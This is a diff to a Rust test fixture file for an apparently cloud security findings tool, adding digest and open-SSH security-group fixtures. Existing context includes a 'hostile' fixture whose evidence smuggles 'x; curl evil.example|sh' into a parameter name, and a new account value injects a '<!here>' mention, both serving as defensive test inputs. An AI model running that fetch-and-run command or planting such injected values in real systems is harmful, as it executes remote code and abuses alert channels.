@@ -1,7 +1,9 @@
 //! Findings for the tests: two made by hand, and any.
 
+use engine::notify::Digest;
 use model::{
-    Actor, Finding, FindingId, Occurrence, OccurrenceId, Outcome, Severity, Status, Timestamp, Untrusted,
+    Actor, Cause, Certainty, Culprit, Episode, Finding, FindingId, Line, Notice, NoticeId, Occurrence,
+    OccurrenceId, Outcome, Posture, Resolution, Severity, Status, Timestamp, Untrusted,
 };
 use proptest::collection::{btree_map, vec};
 use proptest::prelude::*;
@@ -107,6 +109,78 @@ pub(crate) fn hostile() -> Finding {
     };
     finding.latest.evidence =
         r#"{"awsRegion":"us-east-1","requestParameters":{"name":"x; curl evil.example|sh"}}"#.into();
+    finding
+}
+
+/// A digest of four findings: one critical, one high, one medium that is over, one from a place that is none.
+pub(crate) fn digest() -> Digest {
+    let line = |rule: &str, severity, account: &str, over: bool| {
+        let mut finding = stopped_logging();
+        finding.id = FindingId::new(rule, account, "us-east-1", "x", Outcome::Success);
+        finding.rule = rule.into();
+        finding.title = format!("Title of {rule}");
+        finding.severity = severity;
+        finding.account = account.into();
+        let id = if over {
+            NoticeId::of_end(&finding.id, finding.last_seen, "text")
+        } else {
+            NoticeId::new(&finding.id, finding.last_seen, "text")
+        };
+        Line::of(&Notice { id, finding_id: finding.id.clone(), channel: "text".into() }, &finding)
+    };
+    let lines = vec![
+        line("s3-bucket-open", Severity::Medium, "111122223333", true),
+        line("cloudtrail-logging-stopped", Severity::High, "111122223333", false),
+        line("iam-root-mfa-off", Severity::Critical, "111122223333", false),
+        line("cloudtrail-logging-stopped", Severity::High, "<!here> evil.example", false),
+    ];
+    let at = "2026-03-01T04:10:00Z".parse().unwrap();
+    Digest::of(NoticeId::of_digest("text", at), lines, false).unwrap()
+}
+
+/// A security group that a known call opened, and another call closed `over` seconds later.
+pub(crate) fn group_open(over: Option<i64>) -> Finding {
+    let seen = |second: i64| Timestamp::from_second(1_795_000_000 + second).unwrap();
+    let culprit = |name: &str, second: i64| {
+        let actor = Actor {
+            principal: "arn:aws:iam::111122223333:role/Engineer".into(),
+            kind: "AssumedRole".into(),
+            session: "alice@example.com".into(),
+            source_ip: "198.51.100.7".into(),
+            ..Actor::default()
+        };
+        let culprit = Culprit {
+            event_id: "3f2b1a90-5c4d-4e6f-8a7b-9c0d1e2f3a4b".into(),
+            time: seen(second),
+            source: "ec2.amazonaws.com".into(),
+            name: name.into(),
+            actor,
+            chain: Vec::new(),
+        };
+        Cause { certainty: Certainty::Exact, calls: vec![culprit], ..Cause::default() }
+    };
+    let cause = culprit("AuthorizeSecurityGroupIngress", 0);
+    let mut finding = stopped_logging();
+    finding.rule = "ec2-security-group-ssh-open".into();
+    finding.title = "SSH open to everybody".into();
+    finding.latest.message = "security group sg-0a1b2c3d lets everybody reach port 22".into();
+    finding.latest.actor = cause.exact().unwrap().actor.clone();
+    finding.latest.event_id = "episode:2026-11-18T11:06:44Z".into();
+    (finding.latest.event_time, finding.first_seen, finding.last_seen) = (seen(4), seen(4), seen(4));
+    finding.status = if over.is_some() { Status::Resolved } else { Status::Open };
+    finding.posture = Some(Posture {
+        resource_type: "aws.ec2.security_group".into(),
+        resource: "arn:aws:ec2:us-east-1:111122223333:security-group/sg-0a1b2c3d".into(),
+        checked_at: seen(700),
+        resolved_at: over.map(|_| seen(700)),
+        resolution: over.map(|_| Resolution::Clean),
+        episodes: vec![Episode {
+            opened_at: seen(4),
+            cause,
+            resolved_at: over.map(|_| seen(700)),
+            fix: over.map(|second| culprit("RevokeSecurityGroupIngress", second)),
+        }],
+    });
     finding
 }
 
